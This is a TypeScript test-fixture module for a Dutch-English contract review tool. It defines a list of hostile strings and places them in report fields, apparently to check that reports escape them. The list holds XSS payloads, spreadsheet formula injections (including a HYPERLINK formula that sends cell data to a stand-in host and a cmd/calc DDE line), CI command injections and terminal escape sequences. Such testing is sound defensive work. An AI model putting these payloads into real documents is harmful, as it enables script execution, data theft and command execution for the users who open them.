import { readFileSync } from 'node:fs';
import { toBitext } from '../../src/align/bitext.ts';
import { pages } from '../../src/hosts/node/package.ts';
import type { Bitext } from '../../src/model/bitext.ts';
import { both, type Lang, type Sides } from '../../src/model/side.ts';
import type { Source } from '../../src/model/source.ts';
import { type FormatOptions, USUAL } from '../../src/report/options.ts';
import { type Report, type Reported, report } from '../../src/report/report.ts';
import { type Sheet, sheet } from '../../src/report/sheet.ts';
import { review } from '../../src/review/review.ts';
import { corpusBitext } from '../corpus.ts';
import { bitext, bundled, HOME, lexicon, source } from '../texts.ts';

/** A report with the texts it is about. */
export type Reviewed = Readonly<{ bitext: Bitext; report: Report; sheet: Sheet }>;

const reviewed = (pair: Bitext): Reviewed => ({
  bitext: pair,
  report: report(pair, review(pair), '1.2.3'),
  sheet: sheet(pair),
});

let faults: Reviewed | undefined;

/** The first five articles of the corpus with planted faults, reviewed once; its paths as a user in the folder of the project would give them. */
export function faultsReviewed(): Reviewed {
  faults ??= reviewed(toBitext(both({ nl: /^Artikel 6\./m, en: /^Article 6\./m }, beginning), bundled(), lexicon()));
  return faults;
}

function beginning(end: RegExp, lang: Lang): Source {
  const path = `corpus/waterlelie-faults/${lang}.txt`;
  const whole = readFileSync(`${HOME}/${path}`, 'utf8');
  return source(lang, whole.slice(0, whole.search(end)), path);
}

let whole: Reviewed | undefined;

/** All of it. */
export function corpusReviewed(): Reviewed {
  whole ??= reviewed(corpusBitext(HOME, 'waterlelie-faults'));
  return whole;
}

/** Two texts, reviewed. */
export const textsReviewed = (nl: string, en: string): Reviewed => reviewed(bitext(nl, en));

/** The options of the program: with the pages of the checks. */
export const OPTIONS: FormatOptions = {
  ...USUAL,
  pages: Object.fromEntries(pages().map(({ name, text }) => [name, text])),
};

/** A report of two texts, as if one file held both. */
export const inOneFile = (report: Report): Report => ({
  ...report,
  documents: report.documents.map((one) => ({ ...one, en: { ...one.en, path: one.nl.path } })),
});

/** What a document may hold, and no report may obey. */
export const HOSTILE: readonly string[] = [
  '<script>window.hit = 1</script>',
  '</script></style></title><img src=x onerror="window.hit=1">',
  '=HYPERLINK("http://kwaad.example/?x="&A1;"klik hier")',
  '+31 20 1234567',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '::error file=x.txt::boe',
  '##[error]boe',
  '##vso[task.setvariable variable=x]1',
  '\u001b[31mrood\u001b[0m \u001b]0;titel\u0007 \u009b2J',
  '\u202e000.52 ORUE\u202c \u2067links\u2069 \u200f',
  'einde ]]> van CDATA <![CDATA[ <!-- --> <?xml ?>',
  '| cel | `code` **vet** _cursief_ ~~weg~~ [koppeling](http://kwaad.example) ![beeld](http://kwaad.example/x.png)',
  'nul \u0000, bel \u0007, terug \u0008, half \ud800, geen teken \uffff',
  '@jansen en #12 en GH-12 en http://kwaad.example en www.kwaad.example',
  '100% : , ; "aanhaling" \'enkel\' & &amp; &#60; $x$ {{naam}} {0}',
  'regel een\r\nregel twee\n::warning::drie\u2028vier',
  '_x0041_ en _x000D_',
];

/** Two texts that hold all of it, in headings, terms and sentences, and differ in every clause. */
export function hostileTexts(): Sides<string> {
  const text = (heading: string, sentence: (words: string, at: number) => string) =>
    HOSTILE.flatMap((words, at) => {
      const line = words.replace(/[\r\n\u2028]/g, ' ');
      return [`${heading} ${at + 1}. ${line}`, `${at + 1}.1 ${sentence(line, at)}`, ''];
    }).join('\n\n');
  return {
    nl: text('Artikel', (words, at) => `De prijs is € ${at + 10},- per maand, te betalen ${words} binnen 14 dagen.`),
    en: text('Article', (words, at) => `The price is EUR ${at + 50} per month, payable ${words} within 14 days.`),
  };
}

/** A report in which each of these strings stands in every field that a document or a user fills. */
export function hostileReport(): Report {
  const { report: real } = faultsReviewed();
  const [model] = real.findings;
  if (!model) throw new Error('the corpus has no findings');
  const findings = HOSTILE.map((words, at) => hostile(model, words, at));
  const accepted = HOSTILE.map((words, at) => ({ ...hostile(model, words, at + 100), accepted: words }));
  return {
    ...real,
    findings: [...findings, ...accepted],
    stale: HOSTILE.map((words, at) => ({ file: `accepted ${at}.tsv`, line: at + 1, check: 'terms', reason: words })),
    failed: HOSTILE.map((words) => ({ path: `terms/${words}`, reason: words })),
  };
}

function hostile(model: Reported, words: string, at: number): Reported {
  const place = (path: string) => ({
    path: `${path} ${words}`,
    words,
    start: { line: at + 1, column: 1, offset: at },
    end: { line: at + 1, column: words.length + 1, offset: at + words.length },
  });
  const passage = `voor ${words} na`.replace(/\s+/g, ' ');
  const sides = { nl: words, en: words };
  return {
    ...model,
    severity: (['error', 'warning', 'note'] as const)[at % 3] ?? 'note',
    message: `Dutch "${words}", English "${words}".`,
    clause: sides,
    cited: sides,
    article: sides,
    at: { nl: place('nl'), en: place('en') },
    passage: { nl: passage, en: passage },
    focus: { nl: passage.indexOf(words.replace(/\s+/g, ' ').trim()), en: -1 },
    also: [{ ...place('nl'), side: 'nl', clause: words }],
    expected: [words],
    fingerprint: at.toString(16).padStart(16, '0'),
  };
}
